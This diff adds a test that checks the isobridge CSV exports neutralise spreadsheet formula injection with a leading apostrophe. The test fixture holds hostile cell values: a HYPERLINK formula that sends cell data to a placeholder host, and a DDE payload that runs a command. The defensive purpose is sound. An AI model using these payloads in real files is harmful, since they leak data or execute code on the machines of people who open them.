@@ -144,3 +144,24 @@ def test_cli_keeps_latest_revision_and_reports_bad_lines(tmp_path, capsys):
     with open(out.with_suffix(".so-theo-doi.csv"), encoding="utf-8-sig") as f:
         rows = list(csv.DictReader(f))
     assert len(rows) == 20 and rows[-1]["dossier"] == records[0]["dossier"] and rows[-1]["outcome"] == "late"
+
+
+def test_csv_lists_neutralise_formulas_like_the_csv_sink(tmp_path):
+    """A cell a spreadsheet would run (=, +, -, @, tab, CR first) is written with a leading apostrophe."""
+    from isobridge.adapters.csvexport.rows import cell as sink_cell
+    from isobridge.core.report.cells import cell
+
+    hostile = {"agency": "=HYPERLINK(\"http://x.example/?\"&A1)", "dossier": "+HS-1",
+               "nonconformities": [{"kind": "late_step", "step": "@SUM(A1)", "detail": "-1+1 cmd|' /C calc'!A0"},
+                                   {"kind": "missing_step", "step": "\tTN", "detail": "ok"}]}
+    data, files = write_report([dossier(**hostile)], tmp_path / "report.html")
+    with open(files.ledger_csv, encoding="utf-8-sig", newline="") as f:
+        ledger = next(csv.DictReader(f))
+    assert ledger["agency"] == "'" + hostile["agency"] and ledger["dossier"] == "'+HS-1"
+    with open(files.nonconformities_csv, encoding="utf-8-sig", newline="") as f:
+        rows = list(csv.DictReader(f))
+    assert [r["step"] for r in rows] == ["'@SUM(A1)", "'\tTN"]
+    assert rows[0]["detail"] == "'-1+1 cmd|' /C calc'!A0" and rows[1]["detail"] == "ok"
+    assert rows[0]["dossier"] == "'+HS-1"
+    assert sink_cell is cell  # one neutraliser for every CSV isobridge writes
+    assert data.ledger[0]["agency"] == hostile["agency"]  # the HTML shows the text as it is (escaped)
